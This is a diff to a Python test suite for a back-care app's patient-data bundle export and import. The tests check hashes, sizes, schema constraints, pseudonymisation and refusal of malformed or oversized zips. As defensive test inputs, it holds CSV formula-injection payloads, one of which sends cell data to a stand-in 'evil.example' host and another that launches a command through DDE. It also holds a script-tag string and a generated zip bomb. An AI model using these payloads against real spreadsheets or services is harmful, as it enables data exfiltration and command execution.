@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import hashlib
+import io
 import json
 import zipfile
 
@@ -88,30 +90,76 @@ def test_importing_twice_duplicates_nothing(bundle, store):
     }
 
 
-def test_manifest_documents_columns_versions_and_checksums(bundle):
-    manifest, frames = read_bundle(bundle)
-    assert manifest["format"] == "backcare-bundle" and manifest["schema_version"] == 3
+def test_datapackage_documents_columns_versions_keys_and_hashes(bundle):
+    info, frames = read_bundle(bundle)
+    assert info["format"] == "backcare-bundle" and info["schema_version"] == 3
     with zipfile.ZipFile(bundle) as zf:
-        for name, meta in manifest["files"].items():
-            assert hashlib.sha256(zf.read(name)).hexdigest() == meta["sha256"]
-            assert list(meta["columns"]) == list(frames[name].columns)
-            assert all(meta["columns"].values())
+        package = json.loads(zf.read("datapackage.json"))
+        assert package["profile"] == "tabular-data-package"
+        assert [r["path"] for r in package["resources"]] == [
+            "patient.csv",
+            "programmes.csv",
+            "sessions.csv",
+            "items.csv",
+            "pain.csv",
+            "annotations.csv",
+        ]
+        for r in package["resources"]:
+            data = zf.read(r["path"])
+            assert r["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
+            assert r["bytes"] == len(data)
+            assert r["rows"] == len(frames[r["name"]]) == data.count(b"\r\n") - 1 or r["name"] in (
+                "sessions",
+                "annotations",
+            )  # notes and texts may hold line breaks
+            names = [f["name"] for f in r["schema"]["fields"]]
+            assert names == list(frames[r["name"]].columns)
+            assert all(f["description"] for f in r["schema"]["fields"])
+    fields = {
+        (r["name"], f["name"]): f for r in package["resources"] for f in r["schema"]["fields"]
+    }
+    assert fields[("pain", "score")]["constraints"] == {
+        "required": True,
+        "minimum": 0,
+        "maximum": 10,
+    }
+    assert fields[("sessions", "pain_before")]["constraints"] == {"minimum": 0, "maximum": 10}
+    assert fields[("annotations", "kind")]["constraints"]["enum"] == [
+        "note",
+        "programme-change",
+        "flare-up",
+        "milestone",
+    ]
+    items = next(r for r in package["resources"] if r["name"] == "items")["schema"]
+    assert items["primaryKey"] == ["session_id", "exercise_id"]
+    assert items["foreignKeys"] == [
+        {"fields": "session_id", "reference": {"resource": "sessions", "fields": "session_id"}}
+    ]
 
 
-def _rewrite(src, dst, *, change=None, fix_checksum=True, drop=None, add=None):
+def _rewrite(src, dst, *, change=None, fix_checksum=True, drop=None, add=None, package=None):
+    """A copy of bundle src with one file changed (its hash and size fixed unless told not to),
+    dropped or added, or the datapackage changed by package(dict)."""
     with zipfile.ZipFile(src) as zin:
         files = {n: zin.read(n) for n in zin.namelist()}
-    manifest = json.loads(files["manifest.json"])
+    desc = json.loads(files["datapackage.json"])
+    by_path = {r["path"]: r for r in desc["resources"]}
     if change:
         name, fn = change
         files[name] = fn(files[name])
         if fix_checksum:
-            manifest["files"][name]["sha256"] = hashlib.sha256(files[name]).hexdigest()
+            by_path[name]["hash"] = "sha256:" + hashlib.sha256(files[name]).hexdigest()
+            by_path[name]["bytes"] = len(files[name])
+            by_path[name]["rows"] = len(
+                pd.read_csv(io.BytesIO(files[name]), dtype=str, keep_default_na=False)
+            )
     if drop:
         files.pop(drop)
     if add:
         files.update(add)
-    files["manifest.json"] = json.dumps(manifest).encode()
+    if package:
+        package(desc)
+    files["datapackage.json"] = json.dumps(desc).encode()
     with zipfile.ZipFile(dst, "w") as zout:
         for n, data in files.items():
             zout.writestr(n, data)
@@ -126,7 +174,7 @@ def _rewrite(src, dst, *, change=None, fix_checksum=True, drop=None, add=None):
                 "change": ("sessions.csv", lambda b: b.replace(b",4,", b",5,", 1)),
                 "fix_checksum": False,
             },
-            "does not match its checksum",
+            "sessions.csv does not match its sha256",
         ),
         (
             {"change": ("items.csv", lambda b: b.replace(b"plank", b"yoga", 1))},
@@ -135,7 +183,7 @@ def _rewrite(src, dst, *, change=None, fix_checksum=True, drop=None, add=None):
         ({"change": ("sessions.csv", lambda b: b.replace(b",4,", b",14,", 1))}, "pain_"),
         ({"change": ("pain.csv", lambda b: b.replace(b"morning", b"brunch", 1))}, "context"),
         (
-            {"change": ("programmes.csv", lambda b: b.replace(b",7\n", b",seven\n", 1))},
+            {"change": ("programmes.csv", lambda b: b.replace(b",7\r\n", b",seven\r\n", 1))},
             "times_per_week",
         ),
         (
@@ -144,7 +192,7 @@ def _rewrite(src, dst, *, change=None, fix_checksum=True, drop=None, add=None):
         ),
         ({"change": ("sessions.csv", lambda b: b.split(b"\n", 1)[1])}, "columns"),
         ({"drop": "items.csv"}, "items.csv is missing"),
-        ({"add": {"evil.py": b"print(1)"}}, "unexpected files"),
+        ({"add": {"evil.py": b"print(1)"}}, "zip entry evil.py is not listed in datapackage.json"),
         ({}, None),  # an untouched copy imports fine
     ],
 )
@@ -179,7 +227,9 @@ def test_conflicting_row_is_refused(bundle, store, tmp_path):
         ),
     )
     before = row_counts(store)
-    with pytest.raises(BundleError, match="different content"):
+    with pytest.raises(
+        BundleError, match=r"annotations.csv\[\d+\]\.text: .* differs from the store's"
+    ):
         import_bundle(store, changed)
     assert row_counts(store) == before
 
@@ -188,7 +238,7 @@ def test_pseudonymised_bundle_hides_identity_and_free_text(source, tmp_path):
     path = tmp_path / "pseudo.zip"
     manifest = export_bundle(source, PID, path, pseudonymise=True)
     alias = pseudonym(pseudonym_key(source), PID)
-    assert manifest["patient_id"] == alias and alias.startswith("P-")
+    assert manifest["backcare"]["patient_id"] == alias and alias.startswith("P-")
     with zipfile.ZipFile(path) as zf:
         blob = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".csv"))
     name = source.patients().set_index("patient_id").loc[PID, "name"]
@@ -202,7 +252,7 @@ def test_pseudonymised_bundle_hides_identity_and_free_text(source, tmp_path):
     ):
         assert secret not in blob, secret
     _, frames = read_bundle(path)
-    days = pd.to_datetime(frames["sessions.csv"]["day"])
+    days = pd.to_datetime(frames["sessions"]["day"])
     real = source.sessions(PID)["day"]
     # dates shifted by whole weeks: weekdays are kept, day 1 is in the week of 2000-01-03
     assert list(days.dt.day_of_week) == list(real.dt.day_of_week)
@@ -215,17 +265,17 @@ def test_pseudonym_is_stable_and_text_kept_when_asked(source, tmp_path):
     b = export_bundle(
         source, PID, tmp_path / "b.zip", pseudonymise=True, keep_text=True, relative_dates=False
     )
-    assert a["patient_id"] == b["patient_id"]
+    assert a["backcare"]["patient_id"] == b["backcare"]["patient_id"]
     _, frames = read_bundle(tmp_path / "b.zip")
-    assert "<script>alert(1)</script>" in " ".join(frames["sessions.csv"]["notes"].dropna())
-    assert frames["sessions.csv"]["day"].max() == END.isoformat()
+    assert "<script>alert(1)</script>" in " ".join(frames["sessions"]["notes"].dropna())
+    assert frames["sessions"]["day"].max() == END.isoformat()
 
 
 def test_pseudonymised_bundle_imports_under_its_pseudonym(source, store, tmp_path):
     path = tmp_path / "pseudo.zip"
     manifest = export_bundle(source, PID, path, pseudonymise=True)
     import_bundle(store, path)
-    assert len(store.sessions(manifest["patient_id"])) == len(source.sessions(PID))
+    assert len(store.sessions(manifest["backcare"]["patient_id"])) == len(source.sessions(PID))
 
 
 def test_cli_export_and_import(source, tmp_path, capsys):
@@ -240,3 +290,266 @@ def test_cli_export_and_import(source, tmp_path, capsys):
     assert main(["import", str(out), "--db", target]) == 0
     assert "imported 1 patients" in capsys.readouterr().out
     assert main(["export", "--patient", "nobody", "--out", str(out), "--db", target]) == 2
+
+
+# ---- import refuses, writing nothing, naming file, row and field ---------------------------
+def _first_session_line(data: bytes) -> bytes:
+    return data.split(b"\r\n")[1]
+
+
+@pytest.mark.parametrize(
+    ("kwargs", "message"),
+    [
+        (  # an item whose session is not in the bundle
+            {"change": ("items.csv", lambda b: b + b"ghost-session,plank,True,1,,30,\r\n")},
+            r"items.csv\[\d+\]\.session_id: 'ghost-session' is not a session_id of sessions.csv",
+        ),
+        (  # a session pointing to a programme that is not in the bundle
+            {
+                "change": (
+                    "sessions.csv",
+                    lambda b: b.replace(
+                        _first_session_line(b),
+                        _first_session_line(b).rsplit(b",", 1)[0] + b",999999",
+                    ),
+                )
+            },
+            r"sessions.csv\[0\]\.programme_key: '999999' is not a programme_key of programmes",
+        ),
+        (  # the descriptor declares a size the zip entry does not have
+            {"package": lambda d: d["resources"][3].update(bytes=d["resources"][3]["bytes"] + 1)},
+            r"items.csv is \d+ bytes in the zip; datapackage.json says \d+",
+        ),
+        (
+            {"package": lambda d: d["resources"][2].update(rows=10**9)},
+            "sessions.csv declares 1000000000 rows; at most 1000000",
+        ),
+        (
+            {"package": lambda d: d["resources"].pop()},
+            "datapackage.json lists 'annotations.csv'",
+        ),
+        (
+            {"package": lambda d: d.update(padding="x" * (2 << 20))},
+            r"datapackage.json is \d+ bytes; at most 1048576",
+        ),
+    ],
+)
+def test_bundles_that_do_not_hold_together_are_refused(bundle, store, tmp_path, kwargs, message):
+    bad = _rewrite(bundle, tmp_path / "bad.zip", **kwargs)
+    before = row_counts(store)
+    with pytest.raises(BundleError, match=message):
+        import_bundle(store, bad)
+    assert row_counts(store) == before
+
+
+def test_a_duplicated_zip_entry_is_refused(bundle, store, tmp_path):
+    with zipfile.ZipFile(bundle) as zin:
+        files = {n: zin.read(n) for n in zin.namelist()}
+    bad = tmp_path / "dup.zip"
+    with zipfile.ZipFile(bad, "w") as zout, pytest.warns(UserWarning, match="Duplicate name"):
+        for n, data in files.items():
+            zout.writestr(n, data)
+        zout.writestr("sessions.csv", files["sessions.csv"])  # a second one: which would win?
+    before = row_counts(store)
+    with pytest.raises(BundleError, match="zip entry sessions.csv appears twice"):
+        import_bundle(store, bad)
+    assert row_counts(store) == before
+
+
+def test_sizes_past_the_limits_are_refused_before_anything_is_decompressed(
+    bundle, store, tmp_path, monkeypatch
+):
+    import backcare.bundle as B
+
+    opened = []
+    real_open = zipfile.ZipFile.open
+    monkeypatch.setattr(
+        zipfile.ZipFile,
+        "open",
+        lambda self, name, *a, **k: (
+            opened.append(getattr(name, "filename", name)) or real_open(self, name, *a, **k)
+        ),
+    )
+    with zipfile.ZipFile(bundle) as zf:
+        sizes = {i.filename: i.file_size for i in zf.infolist()}
+    monkeypatch.setattr(B, "MAX_ENTRY_BYTES", sizes["items.csv"] - 1)
+    with pytest.raises(BundleError, match=rf"items.csv is {sizes['items.csv']} bytes; at most"):
+        import_bundle(store, bundle)
+    assert opened == ["datapackage.json"]  # only the (size-checked) descriptor was read
+    monkeypatch.setattr(B, "MAX_ENTRY_BYTES", 64 << 20)
+    total = sum(sizes.values())
+    monkeypatch.setattr(B, "MAX_TOTAL_BYTES", total - 1)
+    opened.clear()
+    with pytest.raises(BundleError, match=f"the bundle is {total} bytes uncompressed"):
+        import_bundle(store, bundle)
+    assert opened == ["datapackage.json"]
+
+
+def test_a_zip_bomb_is_refused_on_its_directory_sizes(store, tmp_path):
+    bomb = tmp_path / "bomb.zip"
+    _rewrite_bomb(bomb)
+    with pytest.raises(BundleError, match=r"sessions.csv is 209715200 bytes; at most 67108864"):
+        import_bundle(store, bomb)
+
+
+def _rewrite_bomb(path):
+    """A bundle-shaped zip whose sessions.csv inflates to 200 MiB (a few hundred KB packed)."""
+    zero = b"0" * (200 << 20)
+    package = {
+        "backcare": {"format": "backcare-bundle", "bundle_version": 2},
+        "resources": [
+            {"path": p, "hash": "sha256:" + "0" * 64, "rows": 1, "bytes": n}
+            for p, n in (("patient.csv", 0), ("programmes.csv", 0), ("sessions.csv", len(zero)))
+        ]
+        + [
+            {"path": p, "hash": "sha256:" + "0" * 64, "rows": 1, "bytes": 1}
+            for p in ("items.csv", "pain.csv", "annotations.csv")
+        ],
+    }
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("datapackage.json", json.dumps(package))
+        z.writestr("patient.csv", b"")
+        z.writestr("programmes.csv", b"")
+        z.writestr("sessions.csv", zero)
+
+
+def test_stored_sessions_are_compared_with_their_items(bundle, store, tmp_path):
+    import_bundle(store, bundle)
+    before = row_counts(store)
+    with zipfile.ZipFile(bundle) as zf:
+        items = zf.read("items.csv").decode()
+    first = items.split("\r\n")[1]
+    sid = first.split(",")[0]
+    # an item of a stored session with another dose
+    changed_line = first.rsplit(",", 4)[0] + ",9,,,"
+    for change, message in [
+        (
+            lambda b: b.replace(first.encode(), changed_line.encode(), 1),
+            r"items.csv\[0\]\.sets: '9' differs from the store's",
+        ),
+        (  # an item the stored session does not have
+            lambda b: b + f"{sid},wall-sit,False,,,,\r\n".encode(),
+            rf"items.csv\[\d+\]\.exercise_id: 'wall-sit' is not stored for session_id '{sid}'",
+        ),
+        (  # an item of the stored session left out
+            lambda b: b.replace((first + "\r\n").encode(), b"", 1),
+            rf"session_id '{sid}' has exercise_id '.*' in the store but not in the bundle",
+        ),
+    ]:
+        bad = _rewrite(bundle, tmp_path / "bad.zip", change=("items.csv", change))
+        with pytest.raises(BundleError, match=message):
+            import_bundle(store, bad)
+        assert row_counts(store) == before
+
+
+def test_a_patient_stored_in_another_time_zone_is_refused(bundle, store, tmp_path):
+    store.add_patient(PID, "", "Asia/Tokyo")
+    before = row_counts(store)
+    with pytest.raises(BundleError, match=r"patient.csv\[0\]\.name: .* differs from the store's"):
+        import_bundle(store, bundle)
+    assert row_counts(store) == before
+
+
+def test_cli_import_errors_are_one_line_with_exit_2(bundle, tmp_path, capsys):
+    from backcare.cli import main
+
+    bad = _rewrite(
+        bundle,
+        tmp_path / "bad.zip",
+        change=("items.csv", lambda b: b + b"ghost-session,plank,True,1,,30,\r\n"),
+    )
+    target = f"sqlite:///{tmp_path / 't.db'}"
+    assert main(["import", str(bad), "--db", target]) == 2
+    err = capsys.readouterr().err.strip()
+    assert "\n" not in err and "Traceback" not in err
+    assert "bad.zip: items.csv[" in err and ".session_id: 'ghost-session'" in err
+
+
+# ---- formula escaping ------------------------------------------------------------------------
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-5 minutes walking, then -2 pain",  # a legit leading minus: it must come back as typed
+    "@SUM(1+1)",
+    "\tstarts with a tab",
+    "\rstarts with a carriage return",
+    "'already quoted",
+    "''two quotes",
+    "plain text, = in the middle",
+]
+
+
+def test_formula_cells_are_neutralised_on_export_and_restored_exactly(store, patient, tmp_path):
+    from backcare.bundle import escape_cell, unescape_cell
+
+    for n, text in enumerate(FORMULAS):
+        store.save_session(
+            patient,
+            [{"exercise_id": "plank", "done": True, "hold_s": 30}],
+            day=dt.date(2026, 2, 1) + dt.timedelta(days=n),
+            notes=text,
+            session_id=f"f{n}",
+        )
+        store.add_annotation(patient, text, day=dt.date(2026, 2, 1), author=text[:50])
+    path = tmp_path / "f.zip"
+    export_bundle(store, patient, path)
+    with zipfile.ZipFile(path) as zf:
+        for name in zf.namelist():
+            if not name.endswith(".csv"):
+                continue
+            text = zf.read(name).decode()
+            for row in csv.reader(io.StringIO(text, newline="")):
+                for cell in row:  # what a spreadsheet sees: nothing starts a formula
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    assert escape_cell("=1") == "'=1" and escape_cell("'x") == "''x" and escape_cell("a") == "a"
+    assert [unescape_cell(escape_cell(t)) for t in FORMULAS] == FORMULAS
+    target = open_store(f"sqlite:///{tmp_path / 'empty.db'}")
+    import_bundle(target, path)
+    notes = target.sessions(patient).set_index("session_id")["notes"]
+    assert [notes[f"f{n}"] for n in range(len(FORMULAS))] == FORMULAS
+    texts = set(target.annotations(patient)["text"])
+    authors = set(target.annotations(patient)["author"])
+    assert set(FORMULAS) <= texts and {t[:50] for t in FORMULAS} <= authors
+    target.close()
+
+
+# ---- the Frictionless Data Package ------------------------------------------------------------
+@pytest.mark.parametrize(
+    "options",
+    [
+        {},
+        {"pseudonymise": True},
+        {"pseudonymise": True, "keep_text": True},
+        {"pseudonymise": True, "relative_dates": False},
+    ],
+)
+def test_every_export_is_a_valid_frictionless_data_package(source, tmp_path, options):
+    from frictionless import validate
+
+    path = tmp_path / "p.zip"
+    export_bundle(source, PID, path, **options)
+    folder = tmp_path / "unzipped"
+    with zipfile.ZipFile(path) as zf:
+        zf.extractall(folder)
+    report = validate(str(folder / "datapackage.json"))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
+    assert report.stats["tasks"] == 6
+
+
+def test_frictionless_catches_what_the_schema_forbids(source, tmp_path):
+    from frictionless import validate
+
+    path = _rewrite(
+        export_bundle(source, PID, tmp_path / "p.zip") and tmp_path / "p.zip",
+        tmp_path / "bad.zip",
+        change=("pain.csv", lambda b: b.replace(b",morning", b",brunch", 1)),
+    )
+    folder = tmp_path / "unzipped"
+    with zipfile.ZipFile(path) as zf:
+        zf.extractall(folder)
+    report = validate(str(folder / "datapackage.json"))
+    assert not report.valid
+    assert [e[:2] for e in report.flatten(["fieldName", "type"])] == [
+        ["context", "constraint-error"]
+    ]
